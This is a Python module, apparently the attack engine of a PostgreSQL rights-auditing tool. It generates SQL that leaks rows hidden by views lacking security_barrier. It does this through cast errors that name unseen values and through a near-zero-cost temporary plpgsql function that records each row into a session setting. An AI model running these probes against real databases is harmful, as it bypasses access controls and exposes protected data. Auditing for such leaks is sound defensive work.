"""Reading past a view's filter: for a caller with SQL of his own, through a view without security_barrier.

The server puts the caller's conditions and the view's own in one list, cheap ones first (createplan.c,
order_qual_clauses). A condition that tells what it saw has then seen rows that the view leaves out: an error of the
server's own casts names the value that it met, and a function of the caller's, which may be a temporary one, says
whatever it likes. What was seen is kept in a setting, and read from there.
"""

from collections.abc import Iterator
from typing import NamedTuple

from pgadvise.engines.access.roads import is_barrier, view_rights
from pgadvise.engines.attack.moves.moves import Move
from pgadvise.engines.attack.moves.steps import Steps
from pgadvise.scratch.replay.attempt import Attempt, Refused
from pgadvise.scratch.replay.battery import Battery
from pgadvise.scratch.replay.leak import Outcome
from pgadvise.snapshot import Relation, quote

_SEEN = "pgadvise.seen"
_MARK = "~"
_BY_ROW = "set_config('enable_indexscan', 'off', true), set_config('enable_bitmapscan', 'off', true)"
_TOLD = f"select told from unnest(string_to_array(current_setting('{_SEEN}'), '{_MARK}')) told"


class Glance(NamedTuple):
    """Statements that look, the last of which is a query that tells what was seen."""

    steps: tuple[str, ...]
    query: str


def glance(battery: Battery, steps: Steps, attempt: Attempt, outcome: Outcome) -> None:
    """Tries them in turn, of who writes SQL and reads a view."""
    view = outcome.pair.about
    if not steps.writes_sql or outcome.pair.command != "select" or not isinstance(view, Relation):
        return
    columns = steps.moves(view, attempt.identity.acting).columns["SELECT"]
    for each in _glances(view, columns):
        outcome.probes += 1
        if outcome.leak is None:
            _tried(battery, attempt, outcome, view, each)


def _tried(battery: Battery, attempt: Attempt, outcome: Outcome, view: Relation, glance: Glance) -> None:
    with attempt.tried("select", "glance"):
        if not any(isinstance(attempt.done(step), Refused) for step in glance.steps):
            move = Move(relation=view, command="select", sql=glance.query)
            battery.play(attempt, move, outcome, battery.before, glance.steps)


def _is_open(view: Relation) -> bool:
    """Whether a caller's condition may be asked before the view's own, of rows that he may not read himself."""
    return view.kind == "view" and view_rights(view) is not None and not is_barrier(view)


def _glances(view: Relation, columns: frozenset[str]) -> Iterator[Glance]:
    """`columns` are those that he may name."""
    if not _is_open(view) or not columns:
        return
    named = [column for column in view.columns if column.name in columns]
    cells = ", ".join(f"t.{quote(column.name)}" for column in named)
    planned = f"select {_BY_ROW}, set_config('{_SEEN}', '', true)"
    yield Glance((planned, _by_an_error(view, f"concat_ws(',', {cells})")), _TOLD)
    types = ", ".join(column.type for column in named)
    given = ", ".join(f"${number}" for number, _ in enumerate(named, 1))
    made = (  # nothing is done to what it is given: that would cost more than the view's condition does
        f"create function pg_temp.glance({types}) returns boolean language plpgsql cost 0.0001 as $$ begin"
        f" perform set_config('{_SEEN}', current_setting('{_SEEN}') || '{_MARK}' || concat_ws(',', {given}), true);"
        " return true; end $$"
    )
    yield Glance((planned, made, f"select count(*) from {view} t where pg_temp.glance({cells})"), _TOLD)


def _by_an_error(view: Relation, row: str) -> str:
    """Own rows are no number and no error: the first other one that is met is."""
    return (
        f"do $$ declare own text[] := array(select {row} from {view} t); begin"
        f" perform from {view} t where case when {row} = any (own) then 0 else ({row} || ' is no number')::int end = 0;"
        f" exception when others then perform set_config('{_SEEN}', sqlerrm, true); end $$"
    )
